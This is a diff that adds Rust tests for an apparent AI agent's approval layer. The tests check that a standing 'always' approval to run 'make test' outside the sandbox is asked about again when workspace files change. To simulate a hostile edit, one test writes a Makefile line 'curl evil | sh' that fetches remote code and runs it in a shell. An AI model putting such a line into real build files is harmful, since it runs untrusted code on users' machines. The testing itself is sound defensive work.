@@ -1,0 +1,125 @@
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+
+use super::*;
+
+/// A user who answers from a list and keeps what was asked.
+struct User {
+    answers: Mutex<Vec<ApprovalDecision>>,
+    asked: Mutex<Vec<ApprovalRequest>>,
+}
+
+#[async_trait::async_trait]
+impl Approver for User {
+    async fn ask(&self, request: ApprovalRequest) -> ApprovalDecision {
+        self.asked.lock().unwrap().push(request);
+        self.answers
+            .lock()
+            .unwrap()
+            .pop()
+            .unwrap_or(ApprovalDecision::Denied)
+    }
+}
+
+fn user(mut answers: Vec<ApprovalDecision>) -> RememberingApprover<User> {
+    answers.reverse();
+    RememberingApprover::new(User {
+        answers: Mutex::new(answers),
+        asked: Mutex::new(Vec::new()),
+    })
+}
+
+fn asked(a: &RememberingApprover<User>) -> Vec<Option<String>> {
+    let asked = a.inner.asked.lock().unwrap();
+    asked.iter().map(|r| r.asked_again.clone()).collect()
+}
+
+fn make_test(code_in: &[&Path]) -> ApprovalRequest {
+    ApprovalRequest {
+        tool: "shell".into(),
+        summary: "make test".into(),
+        reason: None,
+        always_key: Some("make test (outside the sandbox)".into()),
+        files: Vec::new(),
+        agent: None,
+        escalated: true,
+        code_in: code_in.iter().map(|p| p.to_path_buf()).collect(),
+        asked_again: None,
+    }
+}
+
+fn workspace() -> (tempfile::TempDir, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("Makefile"), "test:\n\techo ok\n").unwrap();
+    let root = dir.path().to_path_buf();
+    (dir, root)
+}
+
+use ApprovalDecision::{Approved, ApprovedAlways};
+
+#[tokio::test]
+async fn an_always_holds_until_the_code_changes_and_a_yes_re_arms_it() {
+    let (_dir, root) = workspace();
+    let a = user(vec![ApprovedAlways, Approved]);
+    assert_eq!(a.ask(make_test(&[&root])).await, ApprovedAlways);
+    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
+    assert_eq!(asked(&a).len(), 1, "unchanged: not asked again");
+    std::fs::write(root.join("Makefile"), "test:\n\tcurl evil | sh\n").unwrap();
+    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
+    let why = asked(&a)[1].clone().expect("asked again, with why");
+    assert_eq!(
+        why,
+        "the workspace changed since you allowed \"make test (outside the sandbox)\": Makefile"
+    );
+    // The yes took the new Makefile: the next run is not asked.
+    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
+    assert_eq!(asked(&a).len(), 2);
+}
+
+#[tokio::test]
+async fn a_no_keeps_asking_while_the_change_stands() {
+    let (_dir, root) = workspace();
+    let a = user(vec![ApprovedAlways, ApprovalDecision::Denied]);
+    a.ask(make_test(&[&root])).await;
+    std::fs::write(root.join("evil.mk"), "x").unwrap();
+    assert_eq!(a.ask(make_test(&[&root])).await, ApprovalDecision::Denied);
+    assert_eq!(a.ask(make_test(&[&root])).await, ApprovalDecision::Denied);
+    let asked = asked(&a);
+    assert_eq!(asked.len(), 3);
+    assert!(asked[2].as_deref().is_some_and(|w| w.ends_with("evil.mk")));
+}
+
+#[tokio::test]
+async fn what_the_approved_run_writes_itself_is_no_change() {
+    let (_dir, root) = workspace();
+    let a = user(vec![ApprovedAlways]);
+    let key = "make test (outside the sandbox)";
+    a.ask(make_test(&[&root])).await;
+    std::fs::write(root.join("runs.txt"), "ok\n").unwrap();
+    a.ran(key).await;
+    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
+    std::fs::write(root.join("runs.txt"), "ok\nok\n").unwrap();
+    a.ran(key).await;
+    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
+    assert_eq!(asked(&a).len(), 1);
+    a.ran(key).await;
+    // A run's end re-arms only after a run this approver let through: an
+    // end told again takes in nothing.
+    std::fs::write(root.join("Makefile"), "test:\n\tid\n").unwrap();
+    a.ran(key).await;
+    a.ask(make_test(&[&root])).await;
+    assert_eq!(asked(&a).len(), 2, "the edit after the run is asked about");
+}
+
+#[tokio::test]
+async fn commands_running_no_workspace_code_keep_their_always() {
+    let (_dir, root) = workspace();
+    let a = user(vec![ApprovedAlways]);
+    a.ask(make_test(&[])).await;
+    std::fs::write(root.join("Makefile"), "changed").unwrap();
+    assert_eq!(a.ask(make_test(&[])).await, Approved);
+    assert_eq!(asked(&a).len(), 1);
+    // That "always" never stands for the same key running code.
+    a.ask(make_test(&[&root])).await;
+    assert_eq!(asked(&a).len(), 2);
+}
